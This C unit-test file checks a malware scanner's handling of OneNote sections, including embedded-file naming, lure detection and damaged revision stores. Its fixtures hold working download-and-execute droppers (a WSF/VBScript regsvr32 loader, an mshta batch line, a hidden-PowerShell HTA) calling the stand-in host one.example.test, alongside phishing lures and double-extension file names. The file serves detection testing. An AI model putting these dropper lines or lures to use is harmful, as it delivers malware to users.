/* OneNote sections built by our writers (real file header and FileDataStoreObject GUIDs, and a
 * real revision store): embedded files become children named from the revision store, names
 * are guessed (and the evidence says so) only when the store cannot be walked, active content
 * and the lure are reported, a damaged store is reported and still analysed as far as it goes. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "core/safe.h"
#include "core/sha256.h"
#include "payload_fixtures.h"
#include "testutil.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static const eg_object *object_named(const eg_report *r, const char *name)
{
    for (size_t i = 0; i < eg_report_object_count(r); i++) {
        const eg_object *o = eg_report_object(r, i);
        if (o->name && !strcmp(o->name, name))
            return o;
    }
    return NULL;
}

static bool rule_on(const eg_report *r, const char *rule, uint32_t obj)
{
    for (size_t i = 0; i < eg_report_finding_count(r); i++) {
        const eg_finding *f = eg_report_finding(r, i);
        if (f->object == obj && !strcmp(eg_rule_get(f->rule)->id, rule))
            return true;
    }
    return false;
}

static const char click_wsf[] =
    "<job id=\"x\"><script language=\"VBScript\">\r\n"
    "Set h = CreateObject(\"MSXML2.XMLHTTP\"): h.Open \"GET\", \"http://one.example.test/rad.dll\", False: h.Send\r\n"
    "Set s = CreateObject(\"ADODB.Stream\"): s.Open: s.Type = 1: s.Write h.ResponseBody: s.SaveToFile \"rad.tmp.dll\", 2\r\n"
    "CreateObject(\"WScript.Shell\").Run \"regsvr32 rad.tmp.dll\"\r\n"
    "</script></job>\r\n";

static const uint8_t png[] = {0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R',
                              0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1F, 0x15, 0xC4, 0x89, 0, 0, 0,
                              0, 'I', 'E', 'N', 'D', 0xAE, 0x42, 0x60, 0x82};

static void embedded_wsf(void **st)
{
    (void)st;
    /* the image comes first and has no name; the script's name must still go to the script */
    eg_test_one_file files[] = {{NULL, png, sizeof png},
                                {"click.wsf", (const uint8_t *)click_wsf, sizeof click_wsf - 1}};
    size_t n;
    uint8_t *one = eg_test_onenote_build("This document is protected. Double click to view the document.", files, 2, &n);
    assert_non_null(one);
    eg_report *r = eg_test_scan(one, n, NULL);
    assert_int_equal(eg_report_object(r, 0)->type, EG_T_ONENOTE);
    const eg_object *w = object_named(r, "click.wsf");
    assert_non_null(w);
    assert_int_equal(w->size, sizeof click_wsf - 1);
    assert_int_equal(w->type, EG_T_SCRIPT);
    assert_true(rule_on(r, "SCRIPT.DOWNLOAD_EXECUTE", w->id));
    const eg_object *img = object_named(r, "[OneNote embedded file 1]");
    assert_non_null(img);
    assert_int_equal(img->type, EG_T_IMAGE);
    assert_true(rule_on(r, "ONE.EMBEDDED_ACTIVE", 0));
    assert_true(rule_on(r, "ONE.LURE", 0));
    assert_true(rule_on(r, "NAME.EXECUTABLE_EXTENSION", w->id));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(one);
}

static void embedded_exe_japanese_lure(void **st)
{
    (void)st;
    eg_test_pe spec = {.dll = false};
    size_t pn;
    uint8_t *pe = eg_test_pe_build(&spec, &pn);
    eg_test_one_file files[] = {{"請求書.pdf.exe", pe, pn}};
    size_t n;
    uint8_t *one = eg_test_onenote_build("内容を表示するにはダブルクリックしてください", files, 1, &n);
    eg_report *r = eg_test_scan(one, n, NULL);
    const eg_object *e = object_named(r, "請求書.pdf.exe");
    assert_non_null(e);
    assert_int_equal(e->type, EG_T_PE);
    assert_true(rule_on(r, "ONE.EMBEDDED_ACTIVE", 0));
    assert_true(rule_on(r, "ONE.LURE", 0));
    assert_true(rule_on(r, "NAME.DOUBLE_EXTENSION", e->id));
    eg_report_free(r);
    free(one);
    free(pe);
}

static void image_only(void **st)
{
    (void)st;
    eg_test_one_file files[] = {{NULL, png, sizeof png}};
    size_t n;
    uint8_t *one = eg_test_onenote_build("議事録 2023-03-16", files, 1, &n);
    eg_report *r = eg_test_scan(one, n, NULL);
    assert_int_equal(eg_report_object_count(r), 2);
    assert_false(eg_test_has_rule(r, "ONE.EMBEDDED_ACTIVE"));
    assert_false(eg_test_has_rule(r, "ONE.LURE"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
    free(one);
}

/* A store whose length runs past the end: reported, the part present still analysed. */
static void damaged_store(void **st)
{
    (void)st;
    eg_test_one_file files[] = {{"click.wsf", (const uint8_t *)click_wsf, sizeof click_wsf - 1}};
    size_t n;
    uint8_t *one = eg_test_onenote_build(NULL, files, 1, &n);
    /* cut inside the file data: drop the tail, footer and trailing zeros */
    size_t cut = n - 64 - 16 - 40;
    eg_report *r = eg_test_scan(one, cut, NULL);
    assert_true(eg_test_has_rule(r, "ONE.TRUNCATED"));
    const eg_object *w = object_named(r, "click.wsf");
    assert_non_null(w);
    assert_true(w->flags & EG_OBJ_TRUNCATED);
    assert_int_equal(w->size_true, sizeof click_wsf - 1);
    eg_report_free(r);
    /* every shorter prefix is handled */
    for (size_t k = 16; k < n; k += 13) {
        r = eg_test_scan(one, k, NULL);
        assert_non_null(r);
        eg_report_free(r);
    }
    free(one);
}

/* the embedded file's evidence (ONE.EMBEDDED_FILE) for the file of this name */
static const char *file_evidence(const eg_report *r, const char *name)
{
    char q[256];
    snprintf(q, sizeof q, "\"%s\",", name);
    for (size_t i = 0; i < eg_report_finding_count(r); i++) {
        const eg_finding *f = eg_report_finding(r, i);
        if (!strcmp(eg_rule_get(f->rule)->id, "ONE.EMBEDDED_FILE") && !strncmp(f->evidence, q, strlen(q)))
            return f->evidence;
    }
    return NULL;
}

static bool same_bytes(const eg_object *o, const char *data)
{
    uint8_t h[32];
    eg_sha256((const uint8_t *)data, strlen(data), h);
    return o && o->size == strlen(data) && !memcmp(o->sha256, h, 32);
}

static const char bat_invoice[] = "@echo off\r\nstart /min mshta http://one.example.test/a.hta\r\n";
static const char bat_readme[] = "@echo off\r\necho Thank you for reading. This batch file only prints text.\r\n";
static const char hta_pay[] =
    "<html><head><HTA:APPLICATION id=\"x\" windowstate=\"minimize\"></head><body><script language=\"VBScript\">"
    "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iwr http://one.example.test/p.dll -o p.dll\""
    "</script></body></html>";
static const char hta_help[] = "<html><head><HTA:APPLICATION id=\"help\"></head><body>Help</body></html>";

/* Two files of one kind: the revision store pairs each name with its own data. The names are
 * stored in the opposite order of the data, so the guess by file type (used when the store
 * cannot be walked) swaps them, which the second half shows. */
static void same_kind_named_from_store(void **st)
{
    (void)st;
    eg_test_one_file files[] = {{"請求書.bat", (const uint8_t *)bat_invoice, sizeof bat_invoice - 1},
                                {NULL, png, sizeof png},
                                {"readme.bat", (const uint8_t *)bat_readme, sizeof bat_readme - 1}};
    size_t n;
    uint8_t *one = eg_test_onenote_build_store("Double click to view the document", files, 3, &n);
    assert_non_null(one);
    eg_report *r = eg_test_scan(one, n, NULL);
    assert_int_equal(eg_report_object(r, 0)->type, EG_T_ONENOTE);
    if (!same_bytes(object_named(r, "請求書.bat"), bat_invoice) ||
        !same_bytes(object_named(r, "readme.bat"), bat_readme)) {
        eg_test_dump(r);
        fail_msg("names not paired with their data");
    }
    assert_non_null(strstr(file_evidence(r, "請求書.bat"), "name from the revision store"));
    assert_non_null(strstr(file_evidence(r, "readme.bat"), "name from the revision store"));
    /* the picture has no embedded file node: no name, and no guess either */
    assert_non_null(object_named(r, "[OneNote embedded file 2]"));
    assert_null(strstr(file_evidence(r, "[OneNote embedded file 2]"), "guessed"));
    assert_non_null(strstr(file_evidence(r, "[OneNote embedded file 2]"), "a picture in the revision store (stored as .png)"));
    assert_true(rule_on(r, "ONE.EMBEDDED_ACTIVE", 0));
    eg_report_free(r);

    /* without the root reference the store cannot be walked: names are guessed, swapped here,
     * and the evidence says so */
    memset(one + 172, 0, 12);
    r = eg_test_scan(one, n, NULL);
    assert_true(same_bytes(object_named(r, "readme.bat"), bat_invoice));
    assert_true(same_bytes(object_named(r, "請求書.bat"), bat_readme));
    const char *ev = file_evidence(r, "readme.bat");
    assert_non_null(ev);
    assert_non_null(strstr(ev, "name guessed by file type (revision store not readable: no root file node list)"));
    eg_report_free(r);
    free(one);
}

static void two_hta_named_from_store(void **st)
{
    (void)st;
    eg_test_one_file files[] = {{"invoice.hta", (const uint8_t *)hta_pay, sizeof hta_pay - 1},
                                {"help.hta", (const uint8_t *)hta_help, sizeof hta_help - 1}};
    size_t n;
    uint8_t *one = eg_test_onenote_build_store(NULL, files, 2, &n);
    eg_report *r = eg_test_scan(one, n, NULL);
    const eg_object *pay = object_named(r, "invoice.hta");
    assert_true(same_bytes(pay, hta_pay));
    assert_true(same_bytes(object_named(r, "help.hta"), hta_help));
    assert_true(eg_test_has_rule(r, "ONE.EMBEDDED_ACTIVE"));
    eg_report_free(r);
    free(one);
}

/* A later revision renames an embedded file: the current name is reported. */
static void renamed_in_later_revision(void **st)
{
    (void)st;
    eg_test_one_file files[] = {{"old.bat", (const uint8_t *)bat_invoice, sizeof bat_invoice - 1},
                                {"readme.bat", (const uint8_t *)bat_readme, sizeof bat_readme - 1}};
    size_t n;
    uint8_t *one = eg_test_onenote_build_store_rev(NULL, files, 2, "領収書.cmd", &n);
    eg_report *r = eg_test_scan(one, n, NULL);
    if (!same_bytes(object_named(r, "領収書.cmd"), bat_invoice)) {
        eg_test_dump(r);
        fail_msg("the later revision's name is not used");
    }
    assert_non_null(strstr(file_evidence(r, "領収書.cmd"), "name from the revision store"));
    assert_null(object_named(r, "old.bat"));
    assert_true(same_bytes(object_named(r, "readme.bat"), bat_readme));
    eg_report_free(r);
    free(one);
}

/* A damaged fragment deep in the store (the object group of the embedded file nodes): the walk
 * stops there with the reason in the evidence; contents are all still extracted. */
static void damaged_store_falls_back(void **st)
{
    (void)st;
    eg_test_one_file files[] = {{"a.bat", (const uint8_t *)bat_invoice, sizeof bat_invoice - 1},
                                {"b.bat", (const uint8_t *)bat_readme, sizeof bat_readme - 1}};
    size_t n;
    uint8_t *one = eg_test_onenote_build_store(NULL, files, 2, &n);
    /* the second list fragment written (object group B) follows the first: find the magic */
    static const uint8_t magic[8] = {0xC4, 0xF4, 0xF7, 0xF5, 0xB1, 0x7A, 0x56, 0xA4};
    uint8_t *first = memmem(one + 1024, n - 1024, magic, 8);
    assert_non_null(first);
    uint8_t *second = memmem(first + 8, n - (size_t)(first + 8 - one), magic, 8);
    assert_non_null(second);
    assert_int_equal(eg_rd32le(second + 8), 0x31);
    second[0] ^= 0xFF;
    eg_report *r = eg_test_scan(one, n, NULL);
    size_t files_found = 0;
    for (size_t i = 0; i < eg_report_finding_count(r); i++) {
        const eg_finding *f = eg_report_finding(r, i);
        if (!strcmp(eg_rule_get(f->rule)->id, "ONE.EMBEDDED_FILE")) {
            files_found++;
            if (!strstr(f->evidence, "revision store not readable: list fragment at") ||
                !strstr(f->evidence, "bad header or footer")) {
                eg_test_dump(r);
                fail_msg("evidence does not say why names were guessed: %s", f->evidence);
            }
        }
    }
    assert_int_equal(files_found, 2);
    eg_report_free(r);
    second[0] ^= 0xFF;
    /* the root fragment's nextFragment pointing to itself: a loop, read once and reported */
    uint64_t root = eg_rd64le(one + 172);
    uint32_t rcb = eg_rd32le(one + 180);
    uint8_t saved[12];
    memcpy(saved, one + root + rcb - 20, 12);
    memcpy(one + root + rcb - 20, one + 172, 12);
    r = eg_test_scan(one, n, NULL);
    const char *ev = file_evidence(r, "a.bat");
    assert_non_null(ev);
    assert_non_null(strstr(ev, "name from the revision store (which is damaged: list fragment at"));
    assert_non_null(strstr(ev, "read twice (a loop))"));
    assert_non_null(file_evidence(r, "b.bat"));
    eg_report_free(r);
    memcpy(one + root + rcb - 20, saved, 12);
    /* every prefix of a store is handled */
    for (size_t k = 16; k < n; k += 7) {
        r = eg_test_scan(one, k, NULL);
        assert_non_null(r);
        eg_report_free(r);
    }
    free(one);
}

/* Page text of one letter in the case the lure's first letter is not: the lure search stays
 * linear (a search that rescans for each candidate would run for hours on this section). */
static void lure_search_linear(void **st)
{
    (void)st;
    size_t k = 3u << 20;
    char *text = malloc(k + 1);
    assert_non_null(text);
    memset(text, 'D', k);
    text[k] = 0;
    size_t n;
    uint8_t *one = eg_test_onenote_build(text, NULL, 0, &n);
    assert_non_null(one);
    time_t t0 = time(NULL);
    eg_report *r = eg_test_scan(one, n, NULL);
    assert_true(time(NULL) - t0 < 30);
    assert_false(eg_test_has_rule(r, "ONE.LURE"));
    assert_false(eg_test_has_rule(r, "LIMIT.TIME"));
    eg_report_free(r);
    free(one);
    free(text);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(embedded_wsf),
        cmocka_unit_test(embedded_exe_japanese_lure),
        cmocka_unit_test(image_only),
        cmocka_unit_test(damaged_store),
        cmocka_unit_test(same_kind_named_from_store),
        cmocka_unit_test(two_hta_named_from_store),
        cmocka_unit_test(renamed_in_later_revision),
        cmocka_unit_test(damaged_store_falls_back),
        cmocka_unit_test(lure_search_linear),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
